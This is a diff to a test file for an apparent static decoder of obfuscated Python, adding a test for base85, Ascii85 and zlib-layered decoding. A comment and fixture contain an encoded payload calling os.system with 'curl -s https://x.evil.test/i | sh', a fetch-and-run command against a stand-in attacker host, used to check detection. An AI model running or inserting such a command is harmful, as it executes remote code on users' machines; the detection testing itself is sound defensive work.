@@ -69,6 +69,19 @@ describe('python decode', () => {
     expect(of('decode').find((b) => b.scheme === 'zlib')?.decoded).toBe("import os; os.system('id')");
   });
 
+  it('base85 and Ascii85 decode statically, alone and under zlib', async () => {
+    const b85 = await py('import base64\nbase64.b85decode("Xk~0{Zy<MXa%^NFAp")\n');
+    expect(b85.of('decode')[0]?.decoded).toBe('hello world!!');
+    const a85 = await py('import base64\nbase64.a85decode("<~BOu!rD]j@PH?p]XDfTZ)+X$~>", adobe=True)\n');
+    expect(a85.of('decode')[0]?.decoded).toBe('hello zzzz world!!');
+    // zlib.compress(b'import os\nos.system("curl -s https://x.evil.test/i | sh")\n'), base85-encoded.
+    const blob = 'c$~}3Eyyn_QOGam$}iR{t}HG|&DBs!E-lJY&@EQTC@Co@w$j(H&`T}L%+V`JEiTc|RH#uX&QQ|i0sv>86VL';
+    const layered = await py(`import base64, zlib\nzlib.decompress(base64.b85decode("${blob}"))\n`);
+    expect(layered.of('decode').find((b) => b.scheme === 'zlib')?.decoded).toContain('x.evil.test/i | sh');
+    const bad = await py('import base64\nbase64.b85decode("not base85 \\" at all")\n');
+    expect(bad.of('decode')[0]?.decoded).toBeUndefined();
+  });
+
   it('decoding data that is not static is reported without decoded text', async () => {
     const { of } = await py(
       'import base64, requests\nbase64.b64decode(requests.get("https://x.example.invalid/b").text)\n',
